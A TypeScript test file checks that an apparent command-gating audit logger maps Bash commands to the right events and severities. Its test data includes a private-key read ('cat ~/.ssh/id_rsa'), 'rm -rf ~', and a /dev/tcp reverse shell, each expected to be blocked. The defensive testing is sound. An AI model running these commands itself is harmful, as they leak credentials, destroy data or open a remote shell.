import { expect, test } from 'vitest'
import { loadProduct } from '../../test/product.ts'
import { gateOver, judgeCall, sessionIn, type Setting } from '../../test/project.ts'
import { AUDIT_EVENT_TYPES, AUDIT_SEVERITIES } from './audit-logger.ts'
import { eventOf } from './records.ts'

const product = await loadProduct()

test('the described types of event and severities are known', () => {
  expect(AUDIT_EVENT_TYPES).toEqual(
    expect.arrayContaining([
      'firewall_block',
      'permission_denied',
      'permission_granted',
      'permission_timeout',
      'rate_limited',
      'role_changed',
      'user_created',
      'user_deleted',
      'injection_detected',
      'command_blocked',
      'guardian_review',
      'prompt_review',
    ]),
  )
  expect(AUDIT_SEVERITIES).toEqual(['info', 'warn', 'critical'])
})

test.each<[string, string, Setting, string, string]>([
  ['what the firewall refuses is firewall_block', 'cat ~/.ssh/id_rsa', {}, 'firewall_block', 'critical'],
  ['what the tool’s own check refuses is command_blocked', 'rm -rf ~', {}, 'command_blocked', 'critical'],
  [
    'what a rule refuses is permission_denied',
    'ls',
    { settings: { permissions: { deny: ['Bash(ls)'] } } },
    'permission_denied',
    'warn',
  ],
  [
    'what a rule allows is permission_granted',
    'some-unknown-program',
    { settings: { permissions: { allow: ['Bash(some-unknown-program)'] } } },
    'permission_granted',
    'info',
  ],
  ['what the review allows is guardian_review', 'npm test', {}, 'guardian_review', 'info'],
  [
    'what the review refuses is guardian_review',
    'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    {},
    'guardian_review',
    'critical',
  ],
])('%s', async (_what, command, setting, event, severity) => {
  const gate = await gateOver(product, setting)
  const verdict = await judgeCall(product, gate, sessionIn(product, setting), 'Bash', { command })
  expect(eventOf(verdict)).toEqual({ event, severity })
})

test.each(['rate.limited', 'rate.loop'])('what comes too fast is rate_limited: %s', (code) => {
  const because = [{ code, sentence: 'too fast' }]
  const verdict = { decision: 'deny', because, layer: 'admission', trace: [], actions: [], fingerprint: '' } as const
  expect(eventOf(verdict)).toEqual({ event: 'rate_limited', severity: 'warn' })
})
